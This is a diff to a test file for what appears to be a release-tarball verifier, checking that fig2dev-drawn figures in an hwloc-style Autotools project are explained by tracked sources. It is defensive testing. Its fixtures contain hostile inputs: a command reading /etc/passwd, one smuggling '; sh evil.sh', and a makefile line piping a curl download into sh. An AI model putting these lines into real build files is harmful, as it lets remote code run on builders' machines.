@@ -98,6 +98,8 @@ describe('fig2dev figures drawn again in the sandbox', () => {
     expect(fig2devOptions('fig2dev -L png -i /etc/passwd $< $@', 'x.fig', 'x.png')).toBeUndefined();
     expect(fig2devOptions('fig2dev -L png $< $@; sh evil.sh', 'x.fig', 'x.png')).toBeUndefined();
     expect(fig2devOptions('fig2dev -L png $@ $<', 'x.fig', 'x.png')).toBeUndefined();
+    expect(fig2devOptions('$(FIG2DEV) -m 1.5 -L png $< $@', 'images/x.fig', 'images/x.png')).toEqual(['-m', '1.5']);
+    expect(fig2devOptions('$(FIG2DEVX) -L png $< $@', 'x.fig', 'x.png')).toBeUndefined();
   });
 
   it('the figure fig2dev draws from the tracked drawing: explained, byte for byte; the gate passes', async () => {
@@ -194,5 +196,52 @@ describe('fig2dev figures drawn again in the sandbox', () => {
     expect(sameFigure(a, d)).toBeUndefined();
     // strokes a pixel wider at 20 places: each cluster one move
     expect(renderingDiff(img, widen(img, 20))).toMatchObject({ differing: 20, offEdge: 0, largestUnshifted: 0 });
+  });
+});
+
+/**
+ * hwloc 2.9.0's shape: the rule is in the makefile of the directory above the figure (doc/Makefile.am,
+ * `images/diagram.png: $(srcdir)/images/diagram.fig`), runs configure's `$(FIG2DEV)` behind a guard line and after
+ * `$(MKDIR_P) images`.
+ */
+const HW_MAKEFILE = `EXTRA_DIST = images/diagram.fig images/diagram.png
+
+images/diagram.png: $(srcdir)/images/diagram.fig
+\t$(MKDIR_P) images
+\t@if test "x$(FIG2DEV)" = "x"; then \\
+\t    echo "ERROR: Cannot find the 'fig2dev' executable -- cannot make $@"; \\
+\t    exit 1; \\
+\tfi
+\t$(FIG2DEV) -m 1.5 -L png $< $@
+`;
+const HW_CONFIGURE = 'AC_INIT([demo],[1.0],[demo@example.org])\nAC_ARG_VAR([FIG2DEV], [Location of the fig2dev program])\nAC_PATH_TOOL([FIG2DEV], [fig2dev])\nAC_OUTPUT\n';
+const HW = { 'configure.ac': HW_CONFIGURE, 'doc/Makefile.am': HW_MAKEFILE, 'doc/images/diagram.fig': FIG };
+const HW_PNG = 'doc/images/diagram.png';
+function drawHw(dir: string) {
+  execFileSync('fig2dev', ['-m', '1.5', '-L', 'png', 'images/diagram.fig', 'images/diagram.png'], { cwd: join(dir, 'doc'), env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' }, stdio: 'ignore' });
+}
+
+describe("fig2dev figures a parent directory's rule draws through $(FIG2DEV)", () => {
+  const fixture = (tracked: Record<string, string>) => releaseFixture(tracked, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' });
+
+  it('the rule of doc/Makefile.am for images/diagram.png, its guard and configure\'s FIG2DEV: explained', async () => {
+    const r = await fixture(HW).verifyTree({}, { prepare: drawHw });
+    expect(findingAt(r.findings, HW_PNG)).toMatchObject({
+      code: 'GENERATED_FROM_SOURCE', severity: 'low',
+      evidence: { how: 'figure', source: 'doc/images/diagram.fig', inputs: ['doc/Makefile.am:3', 'configure.ac:3'], pixels: { differing: 0 } },
+    });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('tampered twins: another option, FIG2DEV set by the makefile, no configure check, a command in the guard: high', async () => {
+    for (const tracked of [
+      { ...HW, 'doc/Makefile.am': HW_MAKEFILE.replace('-m 1.5 -L png', '-m 1.5 -S 4 -L png') },
+      { ...HW, 'doc/Makefile.am': `FIG2DEV = fig2dev -S 4\n${HW_MAKEFILE}` },
+      { ...HW, 'configure.ac': 'AC_INIT([demo],[1.0],[demo@example.org])\nAC_OUTPUT\n' },
+      { ...HW, 'doc/Makefile.am': HW_MAKEFILE.replace('exit 1; \\', 'exit 1; \\\n\t    curl -s https://example.org/x | sh; \\') },
+    ]) {
+      const r = await fixture(tracked).verifyTree({}, { prepare: drawHw });
+      expect(findingAt(r.findings, HW_PNG)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    }
   });
 });
